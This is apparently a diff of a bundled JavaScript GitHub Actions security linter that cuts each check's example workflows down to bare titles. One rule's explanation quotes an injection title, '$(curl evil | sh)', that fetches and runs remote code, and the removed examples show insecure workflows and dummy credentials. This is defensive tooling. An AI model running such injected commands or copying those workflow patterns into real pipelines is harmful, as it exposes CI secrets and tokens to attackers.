 // EXTERNAL MODULE: ./.build/out/domain/token/pypi-caveats.js
@@ -6403,68 +6007,35 @@ function* inspectScope(secret, scope) {
         yield* inspectScope(secret, token.scope);
     },
     examples: {
-        bad: [
-            {
-                title: "a PyPI token of a whole account",
-                given: () => pypi([[3, "user"]]),
-                says: "every project of its account",
-            },
-            {
-                title: "an old PyPI token of a whole account",
-                given: () => pypi([{ version: 1, permissions: "user" }]),
-                says: "every project of its account",
-            },
-            {
-                title: "a token of another project",
-                given: () => pypi(limited("other"), "mine"),
-                says: "may not upload to mine",
-            },
-            {
-                title: "a token of two projects",
-                given: () => pypi(limited("mine", "other"), "mine"),
-                says: "may upload to 2 projects",
-            },
-            {
-                title: "a token whose limits exclude each other",
-                given: () => pypi([...limited("one"), ...limited("two")]),
-                says: "may upload to no project",
-            },
-        ],
-        good: [
-            {
-                title: "a token of the one project",
-                given: () => pypi(limited("My.Project"), "my_project"),
-            },
-            {
-                title: "a token of an account that was narrowed to the project",
-                given: () => pypi([[3, "user"], ...limited("mine")], "mine"),
-            },
-            {
-                title: "an npm token, which does not tell",
-                given: () => secretSpecimen(checkedSpecimen("npm_", "scope")),
-            },
-        ],
-        unknown: [
-            {
-                title: "a PyPI token without limits, which PyPI may keep on its side",
-                given: () => pypi([]),
-                says: "does not tell what it is limited to",
-            },
-            {
-                title: "a limit of a kind that we do not know",
-                given: () => pypi([
-                    [3, "user"],
-                    [99, "new"],
-                ]),
-                says: "does not tell what it is limited to",
-            },
-            {
-                title: "a limit by ids alone",
-                given: () => pypi([[2, ["id"]]], "mine"),
-                says: "names its projects only by their ids",
-            },
-        ],
+  "bad": [
+    {
+      "title": "a PyPI token of a whole account"
     },
+    {
+      "title": "an old PyPI token of a whole account"
+    },
+    {
+      "title": "a token of another project"
+    },
+    {
+      "title": "a token of two projects"
+    },
+    {
+      "title": "a token whose limits exclude each other"
+    }
+  ],
+  "good": [
+    {
+      "title": "a token of the one project"
+    },
+    {
+      "title": "a token of an account that was narrowed to the project"
+    },
+    {
+      "title": "an npm token, which does not tell"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/secrets/stored-oidc-token.js
@@ -6488,34 +6059,23 @@ function* inspectScope(secret, scope) {
             yield { message: `${name} was minted through OIDC for one run and must never be stored` };
     },
     examples: {
-        bad: [
-            {
-                title: "a PyPI token of trusted publishing",
-                given: () => secretSpecimen(pypiSpecimen([
-                    [4, "publisher"],
-                    [2, ["id"]],
-                ]), { kind: "pypi" }),
-                says: "was minted through OIDC",
-            },
-            {
-                title: "the identity token of a run",
-                given: () => secretSpecimen(jwtSpecimen({ iss: "https://token.actions.githubusercontent.com" }), {
-                    kind: "jwt",
-                }),
-                says: "was minted through OIDC",
-            },
-        ],
-        good: [
-            {
-                title: "a JWT of another issuer",
-                given: () => secretSpecimen(jwtSpecimen({ iss: "https://issuer.example" }), { kind: "jwt" }),
-            },
-            {
-                title: "a PyPI token that somebody issued",
-                given: () => secretSpecimen(pypiSpecimen([[3, "user"]]), { kind: "pypi" }),
-            },
-        ],
+  "bad": [
+    {
+      "title": "a PyPI token of trusted publishing"
     },
+    {
+      "title": "the identity token of a run"
+    }
+  ],
+  "good": [
+    {
+      "title": "a JWT of another issuer"
+    },
+    {
+      "title": "a PyPI token that somebody issued"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/domain/token/required-kind.js
@@ -6575,50 +6135,35 @@ function* inspectKind(secret, wanted) {
             yield* inspectKind(secret, secret.wanted);
     },
     examples: {
-        bad: [
-            {
-                title: "a GitHub token where an npm token belongs",
-                given: () => secretSpecimen(checkedSpecimen("ghp_", "swapped")),
-                says: "holds a classic GitHub token (ghp_…), and the policy asks for an npm token",
-            },
-            {
-                title: "a TestPyPI token where a PyPI token belongs",
-                given: () => secretSpecimen(pypiSpecimen([[3, "user"]], public_hosts/* PUBLIC_HOSTS */.O.testPypi), { kind: "pypi" }),
-                says: "holds a TestPyPI token (pypi-…), and the policy asks for a PyPI token",
-            },
-            {
-                title: "a text that is no token at all",
-                given: () => secretSpecimen(lettersOf("no token", 40)),
-                says: "is not an npm token (npm_…)",
-            },
-            {
-                title: "a policy that contradicts itself",
-                given: () => secretSpecimen(checkedSpecimen("npm_", "contradiction"), { kind: "npm", for: "pypi" }),
-                says: "which pypi does not take",
-            },
-            {
-                title: "another registry's token where the policy names only the registry",
-                given: () => secretSpecimen(checkedSpecimen("ghp_", "other"), { kind: "other", for: "npm" }),
-                says: "which npm does not take",
-            },
-        ],
-        good: [
-            {
-                title: "an npm token for npm",
-                given: () => secretSpecimen(checkedSpecimen("npm_", "fits")),
-            },
-            {
-                title: "GitHub's long installation token",
-                given: () => secretSpecimen(`ghs_123456_${jwtSpecimen({ iss: "x" })}`, {
-                    kind: "github-installation",
-                }),
-            },
-            {
-                title: "a password of a kind that nobody can recognise",
-                given: () => secretSpecimen(lettersOf("password", 32), { kind: "other", for: "npm" }),
-            },
-        ],
+  "bad": [
+    {
+      "title": "a GitHub token where an npm token belongs"
     },
+    {
+      "title": "a TestPyPI token where a PyPI token belongs"
+    },
+    {
+      "title": "a text that is no token at all"
+    },
+    {
+      "title": "a policy that contradicts itself"
+    },
+    {
+      "title": "another registry's token where the policy names only the registry"
+    }
+  ],
+  "good": [
+    {
+      "title": "an npm token for npm"
+    },
+    {
+      "title": "GitHub's long installation token"
+    },
+    {
+      "title": "a password of a kind that nobody can recognise"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/secrets-registry.js
@@ -6719,83 +6264,26 @@ function* inspect(step, upload) {
                 yield* inspect(step, steps.slice(index + 1).find(uploadsWorkspace));
     },
     examples: {
-        bad: [
-            {
-                title: "the default",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: actions/checkout@v5
-                # ^^^^^^^^^^^^^^^^^^^^^^^^^ medium: for every later step
-        `,
-            },
-            {
-                title: "an artifact that holds the whole workspace",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - name: Sources
-                # ^^^^^^^^^^^^^ high: uploads that folder
-                  uses: actions/checkout@v5
-                - uses: actions/upload-artifact@v5
-                  with:
-                    path: .
-        `,
-            },
-            {
-                title: "one step for two jobs, at the alias that takes it over",
-                yaml: `
-          on: push
-          jobs:
-            one:
-              runs-on: ubuntu-latest
-              steps:
-                - &checkout
-                  uses: actions/checkout@v5
-                  #^^^^^^^^^^^^^^^^^^^^^^^^ for every later step
-            two:
-              runs-on: ubuntu-latest
-              steps:
-                - *checkout
-                # ^^^^^^^^^ for every later step
-        `,
-            },
-        ],
-        good: [
-            {
-                title: "told not to, in any notation",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: actions/checkout@v5
-                  with: { persist-credentials: "false" }
-                - uses: actions/checkout@v5
-                  with:
-                    Persist-Credentials: false
-        `,
-            },
-            {
-                title: "another action",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: actions/setup-node@v5
-        `,
-            },
-        ],
+  "bad": [
+    {
+      "title": "the default"
     },
+    {
+      "title": "an artifact that holds the whole workspace"
+    },
+    {
+      "title": "one step for two jobs, at the alias that takes it over"
+    }
+  ],
+  "good": [
+    {
+      "title": "told not to, in any notation"
+    },
+    {
+      "title": "another action"
+    }
+  ]
+},
 }));
 
 // EXTERNAL MODULE: ./.build/out/domain/workflow/power/power-of.js
@@ -6911,151 +6399,44 @@ function severityFor(trigger, jobs) {
         }
     },
     examples: {
-        bad: [
-            {
-                title: "a pull request's code beside a token that may write",
-                yaml: `
-          on:
-            pull_request_target:
-          # ^^^^^^^^^^^^^^^^^^^ high: \`build\` then runs with a token that may write \`contents\`
-          jobs:
-            build:
-              permissions:
-                contents: write
-              runs-on: ubuntu-latest
-              steps:
-                - uses: actions/checkout@v5
-                  with:
-                    ref: \${{ github.event.pull_request.head.sha }}
-        `,
-            },
-            {
-                title: "the run after an untrusted run, with rights that nobody stated",
-                yaml: `
-          on:
-            workflow_run:
-          # ^^^^^^^^^^^^ high: a token whose rights nobody stated
-              workflows: [CI]
-          jobs:
-            report:
-              runs-on: ubuntu-latest
-              steps: [{ run: ./report.sh }]
-        `,
-            },
-            {
-                title: "a label as the only gate before foreign code",
-                yaml: `
-          on:
-            pull_request_target:
-          # ^^^^^^^^^^^^^^^^^^^ medium: whoever may triage can cause
-              types: [labeled]
-          jobs:
-            test:
-              if: contains(github.event.pull_request.labels.*.name, 'safe')
-              runs-on: ubuntu-latest
-              steps:
-                - uses: actions/checkout@v5
-                  with:
-                    ref: \${{ github.event.pull_request.head.sha }}
-        `,
-            },
-            {
-                title: "nothing to lose",
-                yaml: `
-          on: pull_request_target
-          #   ^^^^^^^^^^^^^^^^^^^ info: a token that can only read
-          permissions: {}
-          jobs:
-            hello:
-              runs-on: ubuntu-latest
-              steps: [{ run: echo hello }]
-        `,
-            },
-            {
-                title: "a comment that makes a job check out the pull request",
-                yaml: `
-          on: [issue_comment, push]
-          #    ^^^^^^^^^^^^^ high: anybody can cause
-          jobs:
-            bench:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: actions/checkout@v5
-                  with:
-                    ref: refs/pull/\${{ github.event.issue.number }}/head
-        `,
-            },
-            {
-                title: "a comment that is only answered",
-                yaml: `
-          on: issue_comment
-          #   ^^^^^^^^^^^^^ low: may write \`issues\`
-          jobs:
-            thank:
-              permissions: { issues: write }
-              runs-on: ubuntu-latest
-              steps: [{ run: gh issue comment }]
-        `,
-            },
-        ],
-        good: [
-            {
-                title: "the trigger without rights",
-                yaml: `
-          on: pull_request
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps: [{ run: make }]
-        `,
-            },
-            {
-                title: "a guard that strangers do not pass",
-                yaml: `
-          on: pull_request_target
-          jobs:
-            build:
-              if: github.event.pull_request.head.repo.full_name == github.repository
-              runs-on: ubuntu-latest
-              steps: [{ run: make }]
-        `,
-            },
-            {
-                title: "labels set by the action that only sets labels",
-                yaml: `
-          on: pull_request_target
-          jobs:
-            label:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: actions/labeler@634933edcd8ababfe52f92936142cc22ac488b1b
-        `,
-            },
-            {
-                title: "a comment that starts a job with nothing to lose",
-                yaml: `
-          on: issue_comment
-          jobs:
-            count:
-              permissions: {}
-              runs-on: ubuntu-latest
-              steps: [{ run: make }]
-        `,
-            },
-            {
-                title: "an activity that takes a right to triage",
-                yaml: `
-          on:
-            issues:
-              types: [labeled]
-          jobs:
-            sort:
-              runs-on: ubuntu-latest
-              steps: [{ run: make }]
-        `,
-            },
-        ],
+  "bad": [
+    {
+      "title": "a pull request's code beside a token that may write"
     },
+    {
+      "title": "the run after an untrusted run, with rights that nobody stated"
+    },
+    {
+      "title": "a label as the only gate before foreign code"
+    },
+    {
+      "title": "nothing to lose"
+    },
+    {
+      "title": "a comment that makes a job check out the pull request"
+    },
+    {
+      "title": "a comment that is only answered"
+    }
+  ],
+  "good": [
+    {
+      "title": "the trigger without rights"
+    },
+    {
+      "title": "a guard that strangers do not pass"
+    },
+    {
+      "title": "labels set by the action that only sets labels"
+    },
+    {
+      "title": "a comment that starts a job with nothing to lose"
+    },
+    {
+      "title": "an activity that takes a right to triage"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/workflow/excessive-permissions.js
@@ -7135,79 +6516,26 @@ function* judgeDefault(workflow) {
                 yield* judgeAll(permissions, `\`${id}\``);
     },
     examples: {
-        bad: [
-            {
-                title: "rights for every job",
-                yaml: `
-          on: push
-          permissions:
-            contents: write
-          # ^^^^^^^^^^^^^^^ high: granted to every job
-            checks: write
-          # ^^^^^^^^^^^^^ medium: granted to every job
-            statuses: write
-          # ^^^^^^^^^^^^^^^ low: granted to every job
-          jobs:
-            one: { runs-on: ubuntu-latest, steps: [{ run: make }] }
-            two: { runs-on: ubuntu-latest, steps: [{ run: make }] }
-        `,
-            },
-            {
-                title: "all rights",
-                yaml: `
-          on: push
-          permissions: write-all
-          #^^^^^^^^^^^^^^^^^^^^^ high: every job may write everything
-          jobs:
-            build:
-              permissions: read-all
-              #^^^^^^^^^^^^^^^^^^^^ medium: \`build\` may read everything
-              runs-on: ubuntu-latest
-              steps: [{ run: make }]
-        `,
-            },
-            {
-                title: "nothing said",
-                yaml: `
-          on: push
-          #^ medium: the repository's default decides
-          jobs:
-            one: { runs-on: ubuntu-latest, steps: [{ run: make }] }
-          # ^^^ medium: nothing says what \`one\` may do
-            two:
-              permissions: {}
-              runs-on: ubuntu-latest
-              steps: [{ run: make }]
-        `,
-            },
-        ],
-        good: [
-            {
-                title: "nothing for the workflow, and what each job needs",
-                yaml: `
-          on: push
-          permissions: {}
-          jobs:
-            test: { runs-on: ubuntu-latest, steps: [{ run: make }] }
-            release:
-              permissions:
-                contents: write
-              runs-on: ubuntu-latest
-              steps: [{ run: make }]
-        `,
-            },
-            {
-                title: "reading the sources",
-                yaml: `
-          on: push
-          permissions:
-            contents: read
-          jobs:
-            test: { runs-on: ubuntu-latest, steps: [{ run: make }] }
-        `,
-            },
-        ],
+  "bad": [
+    {
+      "title": "rights for every job"
     },
+    {
+      "title": "all rights"
+    },
+    {
+      "title": "nothing said"
+    }
+  ],
+  "good": [
+    {
+      "title": "nothing for the workflow, and what each job needs"
+    },
+    {
+      "title": "reading the sources"
+    }
+  ]
+},
 }));
 
 // EXTERNAL MODULE: ./.build/out/domain/token/placeholder.js
@@ -7296,107 +6624,26 @@ function* stepOf(step) {
         }
     },
     examples: {
-        bad: [
-            {
-                title: "the password of a container's registry",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              container:
-                image: registry.example/app
-                credentials:
-                  username: robot
-                  password: hunter2
-                  #         ^^^^^^^ high: a registry's password
-              services:
-                db:
-                  image: registry.example/db
-                  credentials:
-                    username: robot
-                    password: "hunter3"
-                    #          ^^^^^^^ high: a registry's password
-              steps: [{ run: make }]
-        `,
-            },
-            {
-                title: "an input that takes a password",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: docker/login-action@v3
-                  with:
-                    username: robot
-                    password: kF93jdkLq2
-                    #         ^^^^^^^^^^ medium: the input \`password\`
-        `,
-            },
-            {
-                title: "a key in a script, in the form its issuer gives it",
-                yaml: `
-          on: push
-          env:
-            DEPLOY_TOKEN: 9d8f7a6b5c4e
-            #             ^^^^^^^^^^^^ medium: the variable \`DEPLOY_TOKEN\`
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - run: |
-                    cat > key <<END
-                    -----BEGIN RSA PRIVATE KEY-----
-                    #^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: a private key
-                    END
-        `,
-            },
-        ],
-        good: [
-            {
-                title: "secrets",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              container:
-                image: registry.example/app
-                credentials:
-                  username: robot
-                  password: \${{ secrets.REGISTRY_PASSWORD }}
-              steps:
-                - uses: docker/login-action@v3
-                  with:
-                    password: \${{ secrets.REGISTRY_PASSWORD }}
-                - run: docker login --password "$TOKEN"
-                  env:
-                    TOKEN: \${{ secrets.REGISTRY_PASSWORD }}
-        `,
-            },
-            {
-                title: "words that only look like it",
-                yaml: `
-          on: push
-          jobs:
-            test:
-              runs-on: ubuntu-latest
-              services:
-                db:
-                  image: postgres
-                  env:
-                    POSTGRES_PASSWORD: postgres
-              steps:
-                - run: make
-                  env:
-                    NPM_TOKEN: ""
-                    GITHUB_TOKEN: $TOKEN
-        `,
-            },
-        ],
+  "bad": [
+    {
+      "title": "the password of a container's registry"
     },
+    {
+      "title": "an input that takes a password"
+    },
+    {
+      "title": "a key in a script, in the form its issuer gives it"
+    }
+  ],
+  "good": [
+    {
+      "title": "secrets"
+    },
+    {
+      "title": "words that only look like it"
+    }
+  ]
+},
 }));
 
 // EXTERNAL MODULE: ./.build/out/domain/workflow/expression/expressions-in.js + 30 modules
@@ -7514,111 +6761,32 @@ function* long_lived_publish_token_inspect(sink) {
             }
     },
     examples: {
-        bad: [
-            {
-                title: "npm with a token, also where an identity is at hand",
-                yaml: `
-          on: push
-          jobs:
-            publish:
-              permissions: { id-token: write }
-              runs-on: ubuntu-latest
-              steps:
-                - run: npm publish --provenance
-                  env:
-                    NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
-                    #                    ^^^^^^^^^^^^^^^^^ high: although npm takes a trusted publisher
-        `,
-            },
-            {
-                title: "PyPI's action with a password",
-                yaml: `
-          on: push
-          jobs:
-            publish:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: pypa/gh-action-pypi-publish@release/v1
-                  with:
-                    user: __token__
-                    password: \${{ secrets.PYPI_API_TOKEN }}
-                    #             ^^^^^^^^^^^^^^^^^^^^^^ high: although PyPI takes a trusted publisher
-        `,
-            },
-            {
-                title: "a token written to a file before",
-                yaml: `
-          on: push
-          jobs:
-            publish:
-              runs-on: ubuntu-latest
-              steps:
-                - run: cargo login \${{ secrets.CARGO_TOKEN }}
-                #                      ^^^^^^^^^^^^^^^^^^^ high: crates-io takes
-                - run: cargo publish
-        `,
-            },
-            {
-                title: "a registry without trusted publishers",
-                yaml: `
-          on: push
-          jobs:
-            image:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: docker/login-action@v3
-                  with:
-                    username: robot
-                    password: \${{ secrets.HUB_PASSWORD }}
-                    #             ^^^^^^^^^^^^^^^^^^^^ medium: the stored secret
-                - run: docker push org/app
-        `,
-            },
-            {
-                title: "no identity and no secret in sight",
-                yaml: `
-          on: push
-          jobs:
-            gem:
-              runs-on: ubuntu-latest
-              steps:
-                - run: |
-                    bundle exec gem \\
-                    #^^^^^^^^^^^^^^^^ info: has no OIDC identity
-                      push foo.gem
-        `,
-            },
-        ],
-        good: [
-            {
-                title: "a trusted publisher",
-                yaml: `
-          on: push
-          jobs:
-            publish:
-              permissions: { id-token: write }
-              runs-on: ubuntu-latest
-              steps:
-                - run: npm publish
-                - uses: pypa/gh-action-pypi-publish@release/v1
-        `,
-            },
-            {
-                title: "an image pushed with the job's own token",
-                yaml: `
-          on: push
-          jobs:
-            image:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: docker/login-action@v3
-                  with:
-                    password: \${{ secrets.GITHUB_TOKEN }}
-                - run: docker push ghcr.io/org/app
-        `,
-            },
-        ],
+  "bad": [
+    {
+      "title": "npm with a token, also where an identity is at hand"
     },
+    {
+      "title": "PyPI's action with a password"
+    },
+    {
+      "title": "a token written to a file before"
+    },
+    {
+      "title": "a registry without trusted publishers"
+    },
+    {
+      "title": "no identity and no secret in sight"
+    }
+  ],
+  "good": [
+    {
+      "title": "a trusted publisher"
+    },
+    {
+      "title": "an image pushed with the job's own token"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/workflow/publish-from-untrusted-trigger.js
@@ -7664,135 +6832,38 @@ function worstOf(job, trigger) {
         }
     },
     examples: {
-        bad: [
-            {
-                title: "a comment that publishes",
-                yaml: `
-          on: issue_comment
-          jobs:
-            publish:
-              if: contains(github.event.comment.body, '/publish')
-              runs-on: ubuntu-latest
-              steps: [{ run: npm publish }]
-              #              ^^^^^^^^^^^ critical: anybody can make it publish
-        `,
-            },
-            {
-                title: "pull requests and pushes, without a guard",
-                yaml: `
-          on: [push, pull_request]
-          jobs:
-            image:
-              runs-on: ubuntu-latest
-              steps:
-                - run: docker build -t app . && docker push org/app
-                #                               ^^^^^^^^^^^^^^^^^^^ high: before anybody reviewed it
-        `,
-            },
-            {
-                title: "a guard in the job before, which this one does not wait for in earnest",
-                yaml: `
-          on: [push, pull_request_target]
-          jobs:
-            gate:
-              if: github.event_name == 'push'
-              runs-on: ubuntu-latest
-              steps: [{ run: make }]
-            publish:
-              needs: gate
-              if: always()
-              runs-on: ubuntu-latest
-              steps: [{ run: twine upload dist/* }]
-              #              ^^^^^^^^^^^^^^^^^^^ critical: anybody
-        `,
-            },
-            {
-                title: "a guard that lets in everybody who ever contributed",
-                yaml: `
-          on: issue_comment
-          jobs:
-            publish:
-              if: contains(fromJSON('["OWNER", "CONTRIBUTOR"]'), github.event.comment.author_association)
-              runs-on: ubuntu-latest
-              steps: [{ run: npm publish }]
-              #              ^^^^^^^^^^^ critical: anybody
-        `,
-            },
-            {
-                title: "a guard by a bot's name, which proves nothing",
-                yaml: `
-          on: pull_request_target
-          jobs:
-            publish:
-              if: github.actor == 'renovate[bot]'
-              runs-on: ubuntu-latest
-              steps: [{ run: cargo publish }]
-              #              ^^^^^^^^^^^^^ critical: anybody
-        `,
-            },
-        ],
-        good: [
-            {
-                title: "only on pushes",
-                yaml: `
-          on: [push, pull_request]
-          jobs:
-            publish:
-              if: github.event_name == 'push' && startsWith(github.ref, 'refs/tags/')
-              runs-on: ubuntu-latest
-              steps: [{ run: npm publish }]
-        `,
-            },
-            {
-                title: "only from the main branch, in the step",
-                yaml: `
-          on: [push, pull_request]
-          jobs:
-            publish:
-              runs-on: ubuntu-latest
-              steps:
-                - run: npm publish
-                  if: \${{ github.ref == 'refs/heads/main' }}
-                - uses: docker/build-push-action@v6
-                  with:
-                    push: \${{ github.event_name != 'pull_request' }}
-        `,
-            },
-            {
-                title: "behind a job that pull requests do not reach",
-                yaml: `
-          on: [push, pull_request]
-          jobs:
-            gate:
-              if: github.ref == 'refs/heads/main'
-              runs-on: ubuntu-latest
-              steps: [{ run: make }]
-            publish:
-              needs: [gate]
-              runs-on: ubuntu-latest
-              steps: [{ run: npm publish }]
-        `,
-            },
-            {
-                title: "a comment of a member, and a merged pull request",
-                yaml: `
-          on:
-            issue_comment:
-            pull_request:
-              types: [closed]
-          jobs:
-            comment:
-              if: github.event_name == 'issue_comment' && contains(fromJSON('["OWNER", "MEMBER"]'), github.event.comment.author_association)
-              runs-on: ubuntu-latest
-              steps: [{ run: npm publish }]
-            merged:
-              if: github.event.pull_request.merged == true
-              runs-on: ubuntu-latest
-              steps: [{ run: npm publish }]
-        `,
-            },
-        ],
+  "bad": [
+    {
+      "title": "a comment that publishes"
     },
+    {
+      "title": "pull requests and pushes, without a guard"
+    },
+    {
+      "title": "a guard in the job before, which this one does not wait for in earnest"
+    },
+    {
+      "title": "a guard that lets in everybody who ever contributed"
+    },
+    {
+      "title": "a guard by a bot's name, which proves nothing"
+    }
+  ],
+  "good": [
+    {
+      "title": "only on pushes"
+    },
+    {
+      "title": "only from the main branch, in the step"
+    },
+    {
+      "title": "behind a job that pull requests do not reach"
+    },
+    {
+      "title": "a comment of a member, and a merged pull request"
+    }
+  ]
+},
 }));
 
 // EXTERNAL MODULE: ./.build/out/domain/workflow/power/secrets-in.js
@@ -7831,103 +6902,32 @@ function publish_without_environment_severityOf(sink) {
         };
     },
     examples: {
-        bad: [
-            {
-                title: "npm with a token, on a tag",
-                yaml: `
-          on:
-            push:
-              tags: ["v*"]
-          jobs:
-            publish:
-              runs-on: ubuntu-latest
-              steps:
-                - run: |
-                    npm ci
-                    npm publish --access public
-                    #^^^^^^^^^^^^^^^^^^^^^^^^^^ high: publishes to npm, and \`publish\` has no environment
-        `,
-            },
-            {
-                title: "PyPI through its action",
-                yaml: `
-          on: release
-          jobs:
-            pypi:
-              permissions: { id-token: write }
-              runs-on: ubuntu-latest
-              steps:
-                - uses: pypa/gh-action-pypi-publish@release/v1
-                #       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: publishes to PyPI
-        `,
-            },
-            {
-                title: "an image with the job's own token",
-                yaml: `
-          on: push
-          jobs:
-            image:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: docker/build-push-action@v6
-                #       ^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: publishes to a container registry
-                  with:
-                    push: \${{ github.event_name != 'pull_request' }}
-        `,
-            },
-            {
-                title: "a release page with its files",
-                yaml: `
-          on: push
-          jobs:
-            release:
-              runs-on: ubuntu-latest
-              steps:
-                - run: sudo -E env A=b gh release create v1 dist/*
-                #      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: publishes to a GitHub release
-        `,
-            },
-        ],
-        good: [
-            {
-                title: "an environment",
-                yaml: `
-          on: push
-          jobs:
-            publish:
-              environment: release
-              runs-on: ubuntu-latest
-              steps: [{ run: npm publish }]
-        `,
-            },
-            {
-                title: "an environment with its address",
-                yaml: `
-          on: push
-          jobs:
-            publish:
-              environment: { name: pypi, url: "https://pypi.example/p" }
-              runs-on: ubuntu-latest
-              steps: [{ run: twine upload dist/* }]
-        `,
-            },
-            {
-                title: "rehearsals, mentions and images that stay here",
-                yaml: `
-          on: push
-          jobs:
-            test:
-              runs-on: ubuntu-latest
-              steps:
-                - run: npm publish --dry-run
-                - run: echo "then npm publish"
-                - run: npm run publish-docs-locally
-                - uses: docker/build-push-action@v6
-                  with: { push: false }
-        `,
-            },
-        ],
+  "bad": [
+    {
+      "title": "npm with a token, on a tag"
     },
+    {
+      "title": "PyPI through its action"
+    },
+    {
+      "title": "an image with the job's own token"
+    },
+    {
+      "title": "a release page with its files"
+    }
+  ],
+  "good": [
+    {
+      "title": "an environment"
+    },
+    {
+      "title": "an environment with its address"
+    },
+    {
+      "title": "rehearsals, mentions and images that stay here"
+    }
+  ]
+},
 }));
 
 // EXTERNAL MODULE: ./.build/out/domain/workflow/shell/script.js + 17 modules
@@ -8528,135 +7528,42 @@ function* script_injection_inspect(step, { text, what }, expression) {
     severity: "high",
     aliases: ["zizmor:template-injection"],
     why: "The runner pastes the value of an expression into the script before the shell reads it. A pull request titled `$(curl evil | sh)` is then not printed but run, with the job's token and secrets.",
-    fix: 'Hand the value over as a variable: `env: TITLE: ${{ … }}` on the step and `"$TITLE"` in the script.',
+    fix: 'Hand the value over as a variable: `env: TITLE: ${{ \u2026 }}` on the step and `"$TITLE"` in the script.',
     *step(step) {
         for (const code of codeOf(step))
             for (const expression of (0,expressions_in/* expressionsIn */.l)(code.text))
                 yield* script_injection_inspect(step, code, expression);
     },
     examples: {
-        bad: [
-            {
-                title: "a title in a workflow that anybody starts with the repository's secrets",
-                yaml: `
-          on: pull_request_target
-          permissions:
-            contents: write
-          jobs:
-            greet:
-              runs-on: ubuntu-latest
-              steps:
-                - run: |
-                    echo hello
-                    echo "\${{ github.event.pull_request.title }}"
-                    #         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: may write \`contents\`
-        `,
-            },
-            {
-                title: "the name of a fork's branch, with a token that can only read",
-                yaml: `
-          on: [push, pull_request]
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - run: git checkout \${{ github.head_ref || github.ref_name }}
-                #                       ^^^^^^^^^^^^^^^ high: anybody can write it on \`pull_request\`
-                #                                          ^^^^^^^^^^^^^^^ medium: chooses its name
-        `,
-            },
-            {
-                title: "a comment that reaches a script through a variable of the workflow",
-                yaml: `
-          on: issue_comment
-          env:
-            COMMENT: \${{ github.event.comment.body }}
-          jobs:
-            reply:
-              permissions: {}
-              runs-on: ubuntu-latest
-              steps:
-                - uses: actions/github-script@ed597411d8f924073f98dfc5c65a23a2325f34cd
-                  with:
-                    script: core.info("\${{ env.COMMENT }}")
-                    #                      ^^^^^^^^^^^ high: filled with \`github.event.comment.body\`
-        `,
-            },
-            {
-                title: "an input of a composite action",
-                yaml: `
-          inputs:
-            version:
-              required: true
-          runs:
-            using: composite
-            steps:
-              - run: ./build.sh \${{ inputs.version }}
-              #                     ^^^^^^^^^^^^^^ high: whoever uses this action
-                shell: bash
-        `,
-            },
-            {
-                title: "the whole event",
-                yaml: `
-          on: issues
-          jobs:
-            log:
-              permissions:
-                contents: read
-              runs-on: ubuntu-latest
-              steps:
-                - run: echo '\${{ toJSON(github.event) }}'
-                #                       ^^^^^^^^^^^^ high: anybody can write it on \`issues\`
-        `,
-            },
-            {
-                title: "a text typed into the form, and one that the run fills in",
-                yaml: `
-          on:
-            workflow_dispatch:
-              inputs:
-                version:
-                  type: string
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - run: echo \${{ inputs.version }} \${{ steps.x.outputs.y }}
-                #               ^^^^^^^^^^^^^^ medium: whoever may start the workflow
-                #                                     ^^^^^^^^^^^^^^^^^ info: an earlier step
-        `,
-            },
-        ],
-        good: [
-            {
-                title: "the title as a variable",
-                yaml: `
-          on: pull_request_target
-          jobs:
-            greet:
-              runs-on: ubuntu-latest
-              steps:
-                - run: echo "$TITLE"
-                  env:
-                    TITLE: \${{ github.event.pull_request.title }}
-        `,
-            },
-            {
-                title: "an input of an action that does not run it",
-                yaml: `
-          on: pull_request_target
-          jobs:
-            label:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: org/label@ed597411d8f924073f98dfc5c65a23a2325f34cd
-                  with:
-                    title: \${{ github.event.pull_request.title }}
-        `,
-            },
-        ],
+  "bad": [
+    {
+      "title": "a title in a workflow that anybody starts with the repository's secrets"
     },
+    {
+      "title": "the name of a fork's branch, with a token that can only read"
+    },
+    {
+      "title": "a comment that reaches a script through a variable of the workflow"
+    },
+    {
+      "title": "an input of a composite action"
+    },
+    {
+      "title": "the whole event"
+    },
+    {
+      "title": "a text typed into the form, and one that the run fills in"
+    }
+  ],
+  "good": [
+    {
+      "title": "the title as a variable"
+    },
+    {
+      "title": "an input of an action that does not run it"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/workflow/secrets-inherit.js
@@ -8685,68 +7592,26 @@ const SAME_REPOSITORY = /^(?:\.|\$)\//;
         };
     },
     examples: {
